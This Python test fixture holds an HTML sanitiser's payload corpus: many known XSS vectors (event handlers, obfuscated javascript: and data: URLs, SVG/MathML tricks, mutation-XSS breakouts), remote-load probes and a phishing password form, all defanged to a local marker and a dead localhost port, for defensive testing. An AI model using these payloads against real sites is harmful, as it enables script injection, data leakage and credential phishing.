"""Known XSS and remote-load payloads for the HTML sanitiser, shared by the unit
tests (tests/unit/test_html_text.py) and the browser test
(tests/browser/test_sanitiser.py).

Every script a payload would run sets ``window.__xss`` (or ``parent.__xss``), a
number, so that a ``javascript:`` URL that runs does not replace the page and the
browser test can read the marker. Every remote load points at ``%LEAK%``
(``%PR-LEAK%`` is the same without its scheme, for protocol-relative URLs), which
must never survive sanitising; ``%NAV%`` is an ordinary link target that may. The
browser test puts its own 127.0.0.1 server there; the defaults point at port 9
of 127.0.0.1, where nothing listens.
"""

from __future__ import annotations

import re

LEAK = "http://127.0.0.1:9/leak"
NAV = "http://127.0.0.1:9/nav"
JS = "window.__xss=1"

_PAYLOADS: tuple[tuple[str, str], ...] = (
    # Scripts and event handlers
    ("script-tag", f"<p>Hallo</p><script>{JS}</script>"),
    ("script-src", '<script src="%LEAK%/script.js"></script>'),
    ("img-onerror", f'<img src=x onerror="{JS}">'),
    ("img-onerror-uppercase", f"<IMG SRC=x ONERROR={JS}>"),
    ("img-javascript-src", f'<img src="javascript:{JS}" alt="x">'),
    ("svg-onload", f'<svg onload="{JS}"><circle r="1"></circle></svg>'),
    ("body-onload", f'<body onload="{JS}"><p>x</p>'),
    ("input-autofocus-onfocus", f'<input autofocus onfocus="{JS}">'),
    ("details-open-ontoggle", f'<details open ontoggle="{JS}"><summary>Mehr</summary>Text</details>'),
    ("marquee-onstart", f'<marquee onstart="{JS}">x</marquee>'),
    ("custom-element-onclick", f'<x-card onclick="{JS}">Klick</x-card>'),
    ("link-with-handlers", f'<a href="%NAV%/handlers" onmouseover="{JS}" onclick="{JS}">Klick</a>'),
    ("template-img-onerror", f"<template><img src=x onerror={JS}></template>"),
    # javascript:, vbscript: and data: links
    ("a-javascript", f'<a href="javascript:{JS}">Klick</a>'),
    ("a-javascript-mixed-case", f'<a href="jAvAsCrIpT:{JS}">Klick</a>'),
    ("a-javascript-entity-colon", f'<a href="javascript&#58;{JS}">Klick</a>'),
    ("a-javascript-decimal-entities", f'<a href="&#106;&#97;&#118;&#97;script:{JS}">Klick</a>'),
    ("a-javascript-tab-newline", f'<a href="java&#x09;scr&#x0A;ipt:{JS}">Klick</a>'),
    ("a-javascript-leading-controls", f'<a href=" &#x01; javascript:{JS}">Klick</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">Klick</a>'),
    ("a-data-text-html", '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">Klick</a>'),
    ("a-data-image", '<a href="data:image/png;base64,iVBORw0KGgo=">Klick</a>'),
    ("img-data-svg", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+" alt="x">'),
    ("form-javascript-action", f'<form action="javascript:{JS}"><button>Senden</button></form>'),
    ("button-formaction-javascript", f'<form><button formaction="javascript:{JS}">Senden</button></form>'),
    # Frames and plug-ins
    ("iframe-src", '<iframe src="%LEAK%/iframe"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>'),
    ("iframe-javascript", '<iframe src="javascript:parent.__xss=1"></iframe>'),
    ("object-data", '<object data="%LEAK%/object"></object><p>nach dem Objekt</p>'),
    ("object-javascript", f'<object data="javascript:{JS}"></object>'),
    ("embed-src", '<embed src="%LEAK%/embed"><p>nach dem Embed</p>'),
    # SVG and MathML
    (
        "svg-animate-href",
        f'<svg><a><animate attributeName="href" values="javascript:{JS}"/><text x="20" y="20">Klick</text></a></svg>',
    ),
    (
        "svg-set-href",
        f'<svg><a><set attributeName="href" to="javascript:{JS}"/><text x="20" y="20">Klick</text></a></svg>',
    ),
    ("svg-a-xlink-href", f'<svg><a xlink:href="javascript:{JS}"><text x="20" y="20">Klick</text></a></svg>'),
    ("svg-use-href", '<svg><use href="%LEAK%/use.svg#x"></use></svg>'),
    ("svg-image-href", '<svg><image href="%LEAK%/svg-image.png" width="10" height="10"></image></svg>'),
    ("svg-style-breakout", f'<svg><style><img src=x onerror="{JS}"></style></svg>'),
    ("math-href", f'<math href="javascript:{JS}"><mtext>Klick</mtext></math>'),
    (
        "math-maction-xlink",
        f'<math><maction actiontype="statusline" xlink:href="javascript:{JS}"><mtext>Klick</mtext></maction></math>',
    ),
    ("math-mglyph-style", f'<math><mtext><table><mglyph><style><img src=x onerror="{JS}">'),
    # Mutation XSS: raw-text elements whose content a second parse would read as markup
    ("xmp-mxss", f'<xmp><p title="</xmp><img src=x onerror={JS}>"></xmp>'),
    ("noscript-mxss", f'<noscript><p title="</noscript><img src=x onerror={JS}>"></noscript>'),
    ("noembed-mxss", f'<noembed><p title="</noembed><img src=x onerror={JS}>"></noembed>'),
    ("textarea-breakout", f"<textarea></textarea><img src=x onerror={JS}></textarea>"),
    ("comment-breakout", f"<!--[if gte mso 9]><img src=x onerror={JS}><![endif]--><p>x</p>"),
    ("isindex", f"<isindex type=image src=1 onerror={JS}>"),
    # CSS
    ("style-import", '<style>@import url("%LEAK%/import.css");</style><p>x</p>'),
    ("style-attribute-url", '<p style="background:url(%LEAK%/style-url.png)">x</p>'),
    ("css-expression", f'<div style="width: expression({JS})">x</div>'),
    ("link-stylesheet", '<link rel="stylesheet" href="%LEAK%/style.css"><p>x</p>'),
    ("link-preload", '<link rel="preload" as="image" href="%LEAK%/preload.png"><p>x</p>'),
    # Remote loads the allow-list shuts out
    ("img-srcset", '<img srcset="%LEAK%/srcset.png 1x" alt="x">'),
    ("picture-source-srcset", '<picture><source srcset="%LEAK%/source.png"><img alt="x"></picture>'),
    ("img-protocol-relative", '<img src="%PR-LEAK%/protocol-relative.png" alt="x">'),
    ("video-poster", '<video poster="%LEAK%/poster.png" width="50" height="50"></video>'),
    ("video-source", '<video autoplay muted><source src="%LEAK%/video.webm"></video>'),
    ("audio-src", '<audio src="%LEAK%/audio.ogg" autoplay></audio>'),
    ("body-background", '<body background="%LEAK%/body-background.png"><p>x</p>'),
    ("table-background", '<table background="%LEAK%/table-background.png"><tr><td>x</td></tr></table>'),
    ("td-background", '<table><tr><td background="%LEAK%/td-background.png">x</td></tr></table>'),
    ("input-image", '<input type="image" src="%LEAK%/input-image.png">'),
    ("a-ping", '<a href="%NAV%/ping" ping="%LEAK%/ping">Klick</a>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=%LEAK%/refresh"><p>x</p>'),
    ("base-href", '<base href="%LEAK%/base/"><a href="#oben">Nach oben</a>'),
    # Forms: a phishing form sent in our name
    (
        "form-password",
        '<form action="%LEAK%/form"><p>Bitte bestätigen Sie Ihr Passwort:</p>'
        '<input type="password" name="p" value="geheim"><button>Anmelden</button></form>',
    ),
    ("button-formaction", '<form><button formaction="%LEAK%/formaction">Senden</button></form>'),
)


def payloads(leak: str = LEAK, nav: str = NAV) -> list[tuple[str, str]]:
    """The corpus as (name, html) pairs, with remote URLs under ``leak`` and
    ordinary link targets under ``nav``."""
    protocol_relative = re.sub(r"^[a-z]+:", "", leak)
    return [
        (name, html.replace("%PR-LEAK%", protocol_relative).replace("%LEAK%", leak).replace("%NAV%", nav))
        for name, html in _PAYLOADS
    ]


NAMES = [name for name, _ in _PAYLOADS]


_DATA_IMAGE = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/]*={0,2}", re.IGNORECASE)


def url_is_allowed(tag: str, attribute: str, value: str) -> bool:
    """The documented URL rule, written out again for the tests: http(s),
    mailto and tel; ``#fragment`` on links; base64 PNG, JPEG, GIF or WebP
    images on ``img src`` only. Nothing else, relative URLs included."""
    # Read the value as a browser does: C0 controls and spaces around it go,
    # tabs and newlines anywhere in it.
    url = re.sub(r"[\t\n\r]", "", value.strip("".join(map(chr, range(0x21)))))
    if tag == "a" and attribute == "href" and url.startswith("#"):
        return True
    if tag == "img" and attribute == "src" and url.lower().startswith("data:"):
        return bool(_DATA_IMAGE.fullmatch(url))
    return bool(re.match(r"(https?://|mailto:|tel:)", url, re.IGNORECASE))
